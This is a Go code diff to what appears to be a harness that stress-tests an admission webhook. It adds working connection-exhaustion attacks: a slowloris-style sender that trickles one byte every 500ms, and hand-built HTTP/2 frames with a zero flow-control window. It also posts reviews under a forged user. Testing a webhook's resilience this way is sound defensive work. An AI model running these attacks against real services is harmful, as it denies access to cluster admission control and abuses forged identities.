@@ -59,13 +59,18 @@ type Webhook struct {
 }
 
 const (
-	webhookPath = "/validate"
-	pause       = 100 * time.Millisecond
-	// idleConnections is more than the webhook accepts from an address.
-	idleConnections = 60
-	postDuration    = 3 * time.Second
+	webhookPath  = "/validate"
+	pause        = 100 * time.Millisecond
+	postDuration = 3 * time.Second
+	// http2Connections leave some of the connections of an address for the reviews that are sent at
+	// the same time.
+	http2Connections = 8
+	// slowSenders is more than the webhook accepts from an address.
+	slowSenders = 200
 	// holdDuration is more than the time that the webhook waits for a review.
 	holdDuration = 7 * time.Second
+	// slowInterval is the time between two bytes of a slow sender.
+	slowInterval = 500 * time.Millisecond
 )
 
 // forged returns a review of a Configuration with this broker. Its user is one that the attacker
@@ -93,19 +98,22 @@ func (w *Webhook) Run(ctx context.Context) {
 		"a forged user":         w.forged(`{"containers": [{"name": "a"}]}`),
 	}
 
-	// The connections that are held leave none for the other attacks, so they take turns.
+	// Slow senders leave no connection for the other attacks, so they take turns.
 	for ctx.Err() == nil {
 		phase, cancel := context.WithTimeout(ctx, postDuration)
 		var group sync.WaitGroup
 		for attack, body := range bodies {
 			group.Go(func() { repeat(phase, func() { w.post(phase, attack, body) }) })
 		}
+		for range http2Connections {
+			group.Go(func() { repeat(phase, func() { w.hold(phase, withoutWindow, w.sendWithoutWindow) }) })
+		}
 		group.Wait()
 		cancel()
 
 		phase, cancel = context.WithTimeout(ctx, holdDuration)
-		for range idleConnections {
-			group.Go(func() { repeat(phase, func() { w.hold(phase) }) })
+		for range slowSenders {
+			group.Go(func() { repeat(phase, func() { w.hold(phase, slowReview, w.sendSlowly) }) })
 		}
 		group.Wait()
 		cancel()
@@ -155,8 +163,14 @@ func (w *Webhook) post(ctx context.Context, attack string, body []byte) {
 	w.Counts.add(attack, response.StatusCode)
 }
 
-// hold sends a part of a review and keeps the connection until the webhook closes it.
-func (w *Webhook) hold(ctx context.Context) {
+// Names of attacks that hold a connection.
+const (
+	withoutWindow = "HTTP/2 with a window of 0"
+	slowReview    = "slow review"
+)
+
+// hold sends a review and keeps the connection until the webhook closes it.
+func (w *Webhook) hold(ctx context.Context, attack string, send func(context.Context, *tls.Conn)) {
 	plain, err := new(net.Dialer).DialContext(ctx, "tcp", w.Address)
 	if err != nil {
 		return
@@ -165,18 +179,48 @@ func (w *Webhook) hold(ctx context.Context) {
 	stop := context.AfterFunc(ctx, func() { _ = plain.Close() })
 	defer stop()
 
-	conn := tls.Client(plain, &tls.Config{InsecureSkipVerify: true})
+	conn := tls.Client(plain, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2", "http/1.1"}})
 	if err := conn.HandshakeContext(ctx); err != nil {
 		if ctx.Err() == nil {
-			w.Counts.add("slow review", "connection refused")
+			w.Counts.add(attack, "connection refused")
 		}
 		return
 	}
 
-	if _, err := io.WriteString(conn, "POST "+webhookPath+" HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\n{"); err == nil {
-		_, _ = io.Copy(io.Discard, conn)
-	}
+	send(ctx, conn)
+	_, _ = io.Copy(io.Discard, conn)
 	if ctx.Err() == nil {
-		w.Counts.add("slow review", "connection closed")
+		w.Counts.add(attack, "connection closed")
 	}
+}
+
+// sendSlowly sends a review byte by byte.
+func (w *Webhook) sendSlowly(ctx context.Context, conn *tls.Conn) {
+	if _, err := io.WriteString(conn, "POST "+webhookPath+" HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\n{"); err != nil {
+		return
+	}
+	for ctx.Err() == nil {
+		if _, err := io.WriteString(conn, " "); err != nil {
+			return
+		}
+		select {
+		case <-ctx.Done():
+		case <-time.After(slowInterval):
+		}
+	}
+}
+
+// sendWithoutWindow sends a complete review with HTTP/2 and lets the webhook send no byte of its
+// response: a preface, a frame SETTINGS with INITIAL_WINDOW_SIZE=0, and the frames HEADERS
+// (":method POST", ":scheme https", ":path /validate", ":authority x") and DATA.
+func (w *Webhook) sendWithoutWindow(_ context.Context, conn *tls.Conn) {
+	w.Counts.add(withoutWindow, "protocol "+conn.ConnectionState().NegotiatedProtocol)
+	frame := func(kind, flags, stream byte, payload string) string {
+		length := len(payload)
+		return string([]byte{byte(length >> 16), byte(length >> 8), byte(length), kind, flags, 0, 0, 0, stream}) + payload
+	}
+	headers := "\x83\x87\x04" + string([]byte{byte(len(webhookPath))}) + webhookPath + "\x01\x01x"
+	review := string(w.forged(`{"containers": [{"name": "a"}]}`))
+	_, _ = io.WriteString(conn, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"+frame(4, 0, 0, "\x00\x04\x00\x00\x00\x00")+
+		frame(1, 4, 1, headers)+frame(0, 1, 1, review))
 }
